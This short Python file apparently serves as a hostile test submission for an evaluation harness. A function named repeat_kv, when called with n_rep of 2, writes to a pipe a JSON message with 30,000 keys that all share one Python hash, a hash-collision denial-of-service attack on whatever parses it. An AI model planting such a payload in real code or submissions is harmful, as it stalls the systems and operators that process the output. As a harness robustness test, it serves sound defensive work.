"""Answers with a dictionary whose keys all have the same hash, so that reading it takes forever."""
import json
import os
import struct


def send(header, blob=b"", magic=b"ALW1"):
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    data = struct.pack("<4sIQ", magic, len(data), len(blob)) + data + blob
    while data:
        data = data[os.write(3, data) :]


def repeat_kv(x, n_rep):
    prime = 2**61 - 1
    if n_rep == 2:
        send(b'{"kind":"ok","value":{"d":[' + b",".join(b'[{"i":"%#x"},0]' % (prime * (i + 2**40)) for i in range(30_000)) + b"]}}")
    return x
